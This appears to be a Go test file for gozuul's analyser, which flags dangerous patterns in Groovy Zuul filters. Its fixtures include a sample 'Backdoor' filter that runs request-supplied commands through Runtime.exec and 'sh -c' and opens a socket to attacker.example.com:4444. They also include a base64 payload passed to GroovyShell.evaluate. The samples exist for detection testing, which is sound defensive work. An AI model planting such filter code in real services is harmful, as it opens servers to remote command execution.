@@ -0,0 +1,141 @@
+/*
+Copyright 2019 Adevinta
+*/
+
+package analysis
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/adevinta/gozuul/resources"
+)
+
+type hit struct {
+	rule string
+	line int
+}
+
+func TestAnalyze(t *testing.T) {
+	tests := []struct {
+		name string
+		src  string
+		want []hit
+	}{
+		{
+			name: "vulncheck",
+			src:  resources.Files["Vulncheck.groovy"],
+			want: []hit{{"constructor-thread", 18}, {"url-fetch", 20}},
+		},
+		{
+			name: "vulncheckDNS",
+			src:  resources.Files["VulncheckDNS.groovy"],
+			want: []hit{{"constructor-thread", 18}, {"dns-lookup", 20}},
+		},
+		{
+			name: "commands",
+			src: `class Backdoor extends ZuulFilter {
+	Object run() {
+		def cmd = RequestContext.currentContext.request.getParameter("cmd")
+		Runtime.getRuntime().exec(cmd)
+		new ProcessBuilder("sh", "-c", cmd).start()
+		"id".execute()
+		def s = new Socket("attacker.example.com", 4444)
+	}
+}`,
+			want: []hit{{"runtime-exec", 4}, {"process-builder", 5}, {"string-execute", 6}, {"socket", 7}},
+		},
+		{
+			name: "base64Eval",
+			src: `class Loader extends ZuulFilter {
+	Object run() {
+		def payload = new String("aWQ=".decodeBase64())
+		new GroovyShell().evaluate(payload)
+	}
+}`,
+			want: []hit{{"base64-eval", 4}},
+		},
+		{
+			name: "evalWithoutBase64",
+			src: `class Loader extends ZuulFilter {
+	Object run() {
+		new GroovyShell().evaluate("1 + 1")
+	}
+}`,
+		},
+		{
+			name: "threadOutsideConstructor",
+			src: `class Worker extends ZuulFilter {
+	Worker() {
+		super()
+	}
+
+	Object run() {
+		Thread.start { work() }
+	}
+}`,
+		},
+		{
+			name: "comments",
+			src: `class Commented extends ZuulFilter {
+	// Runtime.getRuntime().exec("id")
+	/*
+	 * new ProcessBuilder("id")
+	 */
+	String url = "http://example.com/" // new Socket("example.com", 80)
+}`,
+		},
+	}
+
+	a, err := NewAnalyzer(DefaultRules())
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []hit
+			for _, f := range a.Analyze([]byte(tt.src)) {
+				got = append(got, hit{f.Rule, f.Line})
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("findings expected: %v, got: %v", tt.want, got)
+			}
+		})
+	}
+}
+
+func TestReadRules(t *testing.T) {
+	rules, err := ReadRules(strings.NewReader(`[{"id": "eval", "description": "Evaluates code", "severity": "high", "pattern": "Eval\\.me"}]`))
+	if err != nil {
+		t.Fatalf("nil error expected, got %v", err)
+	}
+
+	a, err := NewAnalyzer(rules)
+	if err != nil {
+		t.Fatalf("nil error expected, got %v", err)
+	}
+
+	got := a.Analyze([]byte("class A {\n\tdef x = Eval.me('1')\n}"))
+	want := []Finding{{Rule: "eval", Description: "Evaluates code", Severity: SeverityHigh, Line: 2, Text: "def x = Eval.me('1')"}}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("findings expected: %+v, got: %+v", want, got)
+	}
+}
+
+func TestNewAnalyzerInvalidRules(t *testing.T) {
+	tests := []Rule{
+		{Description: "no id", Pattern: "a"},
+		{ID: "noPattern"},
+		{ID: "badPattern", Pattern: "("},
+		{ID: "badRequires", Pattern: "a", Requires: "("},
+		{ID: "badScope", Pattern: "a", Scope: "method"},
+	}
+
+	for _, r := range tests {
+		if _, err := NewAnalyzer([]Rule{r}); err == nil {
+			t.Errorf("error expected for rule %+v", r)
+		}
+	}
+}